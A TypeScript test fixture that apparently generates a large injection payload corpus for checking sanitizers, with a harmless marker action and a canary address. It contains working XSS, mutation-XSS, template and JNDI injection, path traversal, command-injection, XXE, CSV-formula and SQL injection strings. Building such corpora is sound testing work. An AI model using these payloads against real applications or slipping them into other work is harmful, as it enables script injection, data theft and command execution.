/** Runs where text became code; nobody else sets it. */
const act = 'top.hacked=1'

const events: [element: string, event: string][] = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a tabindex=0 autofocus', 'onfocusin'], ['video src=x', 'onerror'], ['video><source', 'onerror'], ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'], ['marquee', 'onstart'], ['object data=x', 'onerror'], ['iframe src=about:blank', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'],
  ['div style=position:fixed;inset:0', 'onpointerenter'], ['div style=position:fixed;inset:0', 'onmouseover'], ['math', 'onclick'], ['frameset', 'onload'], ['input type=image src=x', 'onerror'],
  ['image src=x', 'onerror'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onend'], ['svg><image href=x', 'onerror'], ['p style=animation:x', 'onanimationstart'],
  ['p style=transition:all', 'ontransitionend'], ['track src=x', 'onerror'], ['xss contenteditable', 'onbeforeinput'], ['dialog open', 'onclose'], ['embed src=x', 'onload'], ['table background=x', 'onscroll'],
]

const families: Record<string, string[]> = {
  tags: [
    '<script>¤</script>', '<ScRiPt>¤</sCrIpT>', '<script src=§/a.js></script>', '<script type=module>import "§/m.js"</script>', '<script\t>¤</script>', '<script/x>¤</script>', '</title><script>¤</script>',
    '</textarea><script>¤</script>', '</style><script>¤</script>', '--><script>¤</script>', '<!--><script>¤</script>', '<scr<script>ipt>¤</scr</script>ipt>', '<![CDATA[<script>¤</script>]]>',
    '<?xml version="1.0"?><script>¤</script>', '<template><script>¤</script></template>', '<plaintext><script>¤</script>', '<xmp><script>¤</script></xmp>', '<script>/*<!--*/¤</script>',
    '<script type=importmap>{"imports":{"react":"§/r.js"}}</script>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["§/sp"]}]}</script>', '<div><template shadowrootmode=open><script>¤</script></template></div>',
  ],
  events: events.map(([element, event]) => `<${element} ${event}=¤>`),
  attributes: [
    '"><img src=x onerror="¤">', "'><img src=x onerror='¤'>", '`><img src=x onerror=¤>', '" onmouseover="¤" x="', "' autofocus onfocus='¤' x='", 'x" style="background:url(§/q)" y="', '<img src=x onerror=¤//', '<img/src=x/onerror=¤>',
    '<img src="x`onerror=¤>', '<img """><script>¤</script>">', '<img src onerror /" \'"= alt=¤//">', '<img src=x:x onerror&#61;¤>', '<img src=x onerror="&#116;op.hacked=1">', '"/><svg/onload=¤ x="', '<a href="x" \x0bonclick=¤>x</a>',
  ],
  urls: [
    'javascript:¤', 'JaVaScRiPt:¤//', ' javascript:¤', 'java\tscript:¤', 'javascript&colon;¤', 'javascript://%0a¤', 'vbscript:msgbox(1)', 'data:text/html,<script>¤</script>', 'data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=',
    '<a href="javascript:¤">x</a>', '<a href="&#106;avascript:¤">x</a>', '<a href="jav&#x09;ascript:¤">x</a>', '<a href="&#14; javascript:¤">x</a>', '<a href="data:text/html,<script>¤</script>">x</a>', '<iframe src=javascript:¤></iframe>',
    '<object data=javascript:¤></object>', '<embed src=javascript:¤>', '<svg><a xlink:href="javascript:¤"><text y=20>x</text></a></svg>', '<math href="javascript:¤">x</math>', '<map><area href="javascript:¤"></map>',
    '<iframe src="data:text/html,<script>parent.hacked=1</script>"></iframe>', 'https://shop.example/" onclick="¤', 'https://shop.example/?q=<script>¤</script>', '[x](javascript:¤)', '![x](§/md.png)', '<javascript:¤>', 'https://shop.example@§/u',
  ],
  loads: [
    '<img src=§/i.png>', '<img srcset="§/s.png 1x">', '<picture><source srcset=§/p.png><img></picture>', '<video poster=§/v.png></video>', '<video src=§/v.mp4 autoplay></video>', '<audio src=§/a.mp3 autoplay></audio>', '<video><track default src=§/t.vtt></video>',
    '<body background=§/b.png>', '<table background=§/t.png><td>x</table>', '<input type=image src=§/ii.png>', '<iframe src=§/f></iframe>', '<frameset><frame src=§/fs></frameset>', '<object data=§/o></object>', '<embed src=§/e>', '<applet code=x codebase=§/ap></applet>',
    '<svg><image href=§/si.png /></svg>', '<svg><use href="§/u.svg#x"/></svg>', '<svg><filter><feImage href="§/fe.png"/></filter></svg>', '<svg><script href=§/s.js></script></svg>', '<svg><foreignObject><iframe src=§/fo></iframe></foreignObject></svg>',
    '<link rel=stylesheet href=§/c.css>', '<link rel=prefetch href=§/pf>', '<link rel=preconnect href=§>', '<link rel=modulepreload href=§/mp.js>', '<link rel=icon href=§/ic.png>', '<link rel=manifest href=§/mf>', '<a ping=§/ping href=#>x</a>', '<portal src=§/po></portal>',
  ],
  page: [
    '<meta http-equiv=refresh content="0;url=§/m">', '<meta http-equiv=refresh content="0;url=javascript:¤">', '<meta http-equiv=Set-Cookie content="a=b">', '<meta http-equiv=Content-Security-Policy content="script-src * \'unsafe-inline\'">',
    '<meta name=referrer content=unsafe-url>', '<base href=§/>', '<base target=_top>', '<base href="javascript:¤//">', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>', "<iframe srcdoc='<img src=§/sd.png onerror=top.hacked=1>'></iframe>",
    '<html manifest=§/am>', '<!doctype html><html><head><script>¤</script>',
  ],
  forms: [
    '<form action=§/f method=post><input name=password><button>Sign in</button></form>', '<form action="javascript:¤"><button>x</button></form>', '<button formaction="javascript:¤">x</button>', '<button form=root formaction=§/fa>x</button>',
    '<form id=hijack></form><input form=hijack name=q><button form=hijack formaction=§/h>x</button>', '</form><form action=§/g><textarea>', '<input type=hidden name=csrf value="', '<isindex action=§/is type=image>', '<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=¤>x</div>',
  ],
  css: [
    "<style>@import '§/im.css'</style>", '<style>*{background:url(§/bg)}</style>', '<div style="background:url(§/d)">x</div>', '<div style="background-image:image-set(\'§/is\' 1x)">x</div>', '<style>@font-face{font-family:x;src:url(§/ff)}*{font-family:x}</style>',
    '<p style="position:fixed;inset:0;z-index:99999;background:red">Session over</p>', '<div style="width:expression(¤)">x</div>', '<style>input[value^=a]{background:url(§/a)}</style>', '<div style="behavior:url(§/htc)">x</div>', '<div style="-moz-binding:url(§/xbl)">x</div>',
    '</style><style>body{display:none}</style>', '<link rel=stylesheet href="data:text/css,*{display:none}">', '<div style="--x:url(§/v);background:var(--x)">x</div>', '<ul style="list-style:url(§/ls)"><li>x</ul>', '<p style="cursor:url(§/cu),auto">x</p>', '<p style="content:url(§/co)">x</p>',
    '<svg><style><img src=x onerror=¤></style></svg>', '<style>:root{--a:}</style><p style="color:red;x:url(\\00006a avascript:¤)">x</p>', '<p style="background:u\\72l(§/esc)">x</p>',
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=¤>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=¤&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=¤>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=¤>', '<math><annotation-xml encoding="text/html"><script>¤</script></annotation-xml></math>', '<select><noembed></select><script>¤</script>', '<svg><title><![CDATA[</title><script>¤</script>]]></svg>',
    '<table><td><svg><desc><td><script>¤</script>', '<p><svg><style>&lt;img src=x onerror=¤&gt;</style>', '<listing>&lt;img onerror=¤ src=x&gt;</listing>', '<svg><p><style><g title="</style><img src onerror=¤>">', '<iframe><!--</iframe><img src=x onerror=¤>-->',
    '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=\'#\' onerror=\'¤\'>">', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=¤>">', '<!-- --!><img src=x onerror=¤>-->', '<![if !IE]><script>¤</script><![endif]>',
    '<noembed><img title="</noembed><img src=x onerror=¤>">', '<xmp><p title="</xmp><img src=x onerror=¤>">',
  ],
  templates: [
    "{{constructor.constructor('¤')()}}", '{{7*7}}', '${¤}', '#{¤}', '<%= ¤ %>', "{{'a'.constructor.prototype.charAt=[].join;$eval('x=¤')}}", '[[${¤}]]', '{{{ customer }}}', "{% include '/etc/passwd' %}", '{% assign x = customer %}{{ x }}', '%{#x}', '@{¤}',
    '<div v-html="\'<img src=x onerror=¤>\'">', "<div ng-app ng-csp>{{$eval.constructor('¤')()}}</div>", '<div x-data x-init="¤">', '<div hx-get=§/hx hx-trigger=load>', '{{ customer.name | raw }}', '{%raw%}{{x}}', '${jndi:ldap://127.0.0.1/a}', '{"$$typeof":"Symbol(react.element)","type":"script"}',
  ],
  clobbering: [
    '<img name=documentElement>', '<form id=attributes><input name=attributes>', '<a id=__proto__>', '<img name=getElementById>', '<a id=csrf><a id=csrf name=token href=x>', '<iframe name=hacked srcdoc=x></iframe>', '<form id=root><input name=innerHTML>', '<div id=root></div><div id=main>',
    '__proto__', 'constructor', 'toString', '<object name=location>',
  ],
  encodings: [
    '&lt;script&gt;¤&lt;/script&gt;', '&amp;lt;img src=x onerror=¤&amp;gt;', '&#60;script&#62;¤&#60;/script&#62;', '%3Cscript%3E¤%3C/script%3E', '\\u003cscript\\u003e¤', '\\x3cscript\\x3e¤', '+ADw-script+AD4-¤', '＜script＞¤＜/script＞', '<script>\u2028¤</script>', '&nbsp;&copy&NotEqualTilde;&#0;&#x110000;',
    "';¤//", '";¤//', "\\';¤//", '</script><script>¤', "'-¤-'", '`;¤;`', '*/¤/*', '"}]};¤', ']]>', '<\u00a0script>¤',
  ],
  unicode: [
    'invoice\u202efdp.exe', '\u202eabc\u202c', '\u2066a\u2067b\u2069', 'a\u200bb\u200cc\u200dd', '\ufeffx', '\u200frtl\u200e', '\u061cx', 'soft\u00adhyphen', 'tag\u{e0041}\u{e0042}', `Z${'\u0351\u036b\u0343'.repeat(30)}algo`, '😀'.repeat(80), '👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿', '﷽'.repeat(12),
    `long${'W'.repeat(300)}`, '𝕏𝕊𝕊 𝔱𝔢𝔵𝔱', 'раураӏ.example', 'x\ufffdy', '\u2029\u2028x', 'İıſK', 'مرحبا <b>שלום</b>',
  ],
  files: ['../../../etc/passwd', 'file:///etc/passwd', 'C:\\con\\con', 'x.html\u202elmth.gpj', 'x.svg', '.htaccess', 'a;b=c"d.html', '$(touch x)', '`id`', '| cat /etc/passwd', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  terminals: ['\u001b[31mred\u001b[0m', '\u001b]8;;§/osc\u0007link\u001b]8;;\u0007', '\u009b31mC1', 'bell\u0007', 'back\b\b\bspace', 'a\r\nSet-Cookie: a=b', '%s%s%n%x', 'nil undefined NaN [object Object]'],
  formulas: ["=cmd|' /C calc'!A0", '=HYPERLINK("§/h","x")', '+1+1', '-1+1', '@SUM(1)', '=IMPORTXML("§/x","//a")', '\t=1+1', '"=1","2";=3', 'DDE("cmd";"/C calc";"x")', "'; DROP TABLE customers;--", '" OR 1=1 --'],
  messages: [
    "<script>parent.postMessage({type:'x'},'*')</script>", '<iframe srcdoc="<script>top.postMessage(\'hacked\',\'*\')</script>"></iframe>', "<iframe src=about:blank onload=\"this.contentWindow.postMessage('x','*');¤\"></iframe>", '<a target=_top href=§/top>x</a>', '<a target=_parent href="javascript:¤">x</a>',
    "<iframe name='{\"hacked\":1}' src=about:blank onload=¤></iframe>", '<a href=§/opener target=_blank rel=opener>x</a>', '<svg onload=opener.hacked=1>',
  ],
}

/** Every payload; `canary` is an address that nobody must ask. */
export function payloads(canary: string): { all: string[]; worst: string[] } {
  const real = (p: string) => p.replaceAll('¤', act).replaceAll('§', canary)
  // The first two of each family: for what there is only a handful of.
  return { all: [...new Set(Object.values(families).flat().map(real))], worst: Object.values(families).flatMap((f) => f.slice(0, 2)).map(real) }
}
